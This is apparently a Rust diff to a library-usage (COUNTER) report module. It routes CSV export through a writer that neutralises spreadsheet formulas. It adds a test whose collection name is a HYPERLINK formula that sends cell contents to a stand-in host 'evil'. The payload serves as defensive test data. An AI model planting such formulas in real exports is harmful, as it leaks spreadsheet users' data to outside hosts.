@@ -8,6 +8,7 @@ use serde::Serialize;
 use utoipa::ToSchema;
 
 use crate::ids::CollectionId;
+use crate::spreadsheet::CsvRows;
 
 /// What is counted.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
@@ -193,6 +194,18 @@ struct Performance {
     counts: BTreeMap<&'static str, BTreeMap<String, u64>>,
 }
 
+/// The columns of the tabular report before that of the month.
+const COLUMNS: [&str; 9] = [
+    "Database",
+    "Publisher",
+    "Publisher_ID",
+    "Platform",
+    "Proprietary_ID",
+    "Data_Type",
+    "Access_Method",
+    "Metric_Type",
+    "Reporting_Period_Total",
+];
 const PLATFORM: &str = "Adit";
 const TDM: &str = "TDM";
 
@@ -239,26 +252,25 @@ impl UsageReport {
         Self { header, items: collections.into_iter().filter_map(item).collect() }
     }
 
-    /// The same as a table: the body of COUNTER's tabular report, with commas (RFC 4180).
-    #[must_use]
-    pub fn csv(&self, month: &Month) -> String {
-        let mut lines = vec![format!(
-            "Database,Publisher,Publisher_ID,Platform,Proprietary_ID,Data_Type,Access_Method,Metric_Type,\
-             Reporting_Period_Total,{}",
-            month.heading()
-        )];
+    /// Writes the same as a table: the body of COUNTER's tabular report, with commas (RFC 4180).
+    /// Names that a spreadsheet would take for formulas are neutralised.
+    ///
+    /// # Errors
+    /// None that writing into memory gives rise to.
+    pub fn csv(&self, month: &Month) -> Result<Vec<u8>, csv::Error> {
+        let mut rows = CsvRows::default();
+        let heading = month.heading();
+        rows.push(COLUMNS.into_iter().chain([heading.as_str()]))?;
         for item in &self.items {
             for of_type in &item.performance {
                 for (metric, months) in &of_type.counts {
-                    let count: u64 = months.values().sum();
-                    let (database, id) = (quoted(&item.database), quoted(&item.id.proprietary));
-                    let (platform, kind, access) = (item.platform, of_type.data_type, of_type.access);
-                    lines.push(format!("{database},,,{platform},{id},{kind},{access},{metric},{count},{count}"));
+                    let count = months.values().sum::<u64>().to_string();
+                    let (id, kind, access) = (item.id.proprietary.as_str(), of_type.data_type, of_type.access);
+                    rows.push([&item.database, "", "", item.platform, id, kind, access, metric, &count, &count])?;
                 }
             }
         }
-        lines.push(String::new());
-        lines.join("\r\n")
+        rows.into_bytes()
     }
 }
 
@@ -270,10 +282,6 @@ fn performance(month: &Month, counts: &[(Metric, u64)]) -> Vec<Performance> {
         by_type.entry(metric.data_type()).or_default().insert(metric.as_str(), months);
     }
     by_type.into_iter().map(|(data_type, counts)| Performance { data_type, access: TDM, counts }).collect()
-}
-
-fn quoted(text: &str) -> String {
-    if text.contains(['"', ',', '\r', '\n']) { format!("\"{}\"", text.replace('"', "\"\"")) } else { text.to_owned() }
 }
 
 #[cfg(test)]
@@ -304,10 +312,21 @@ mod tests {
         let month = Month::of(1_795_302_000_123);
         let report = UsageReport::new(&month, collections, &sums.into(), None, 0);
         insta::assert_snapshot!(serde_json::to_string(&report).unwrap(), @r#"{"Report_Header":{"Release":"5.1","Report_ID":"DR","Report_Name":"Database Report","Created":"1970-01-01T00:00:00.000Z","Created_By":"Adit","Institution_Name":"The World","Report_Filters":{"Begin_Date":"2026-11-01","End_Date":"2026-11-30","Access_Method":["TDM"],"Metric_Type":["Searches_Regular","Total_Item_Requests","Unique_Item_Requests","adit:Documents_Charged","adit:Bytes"]},"Report_Attributes":{"Attributes_To_Show":["Access_Method"]}},"Report_Items":[{"Database":"JOSE, \"the\" journal","Publisher":"","Platform":"Adit","Item_ID":{"Proprietary":"adit:jose"},"Attribute_Performance":[{"Data_Type":"Database_Full","Access_Method":"TDM","Performance":{"Searches_Regular":{"2026-11":3}}},{"Data_Type":"Unspecified","Access_Method":"TDM","Performance":{"adit:Bytes":{"2026-11":5000000000}}}]}]}"#);
-        insta::assert_snapshot!(report.csv(&month).replace("\r\n", "\n"), @r#"
+        insta::assert_snapshot!(String::from_utf8(report.csv(&month).unwrap()).unwrap().replace("\r\n", "\n"), @r#"
         Database,Publisher,Publisher_ID,Platform,Proprietary_ID,Data_Type,Access_Method,Metric_Type,Reporting_Period_Total,Nov-2026
         "JOSE, ""the"" journal",,,Adit,adit:jose,Database_Full,TDM,Searches_Regular,3,3
         "JOSE, ""the"" journal",,,Adit,adit:jose,Unspecified,TDM,adit:Bytes,5000000000,5000000000
         "#);
+    }
+
+    #[test]
+    fn a_collection_named_by_a_formula_is_a_text_in_the_table() {
+        let collections = [(CollectionId(1), "c", "=HYPERLINK(\"http://evil/?\"&A1)")];
+        let sums = [((CollectionId(1), Metric::Searches), 3)];
+        let month = Month::of(1_795_302_000_123);
+        let table = UsageReport::new(&month, collections, &sums.into(), None, 0).csv(&month).unwrap();
+        let mut rows = csv::Reader::from_reader(table.as_slice());
+        let row = rows.records().next().unwrap().unwrap();
+        assert_eq!((&row[0], &row[9]), ("'=HYPERLINK(\"http://evil/?\"&A1)", "3"));
     }
 }
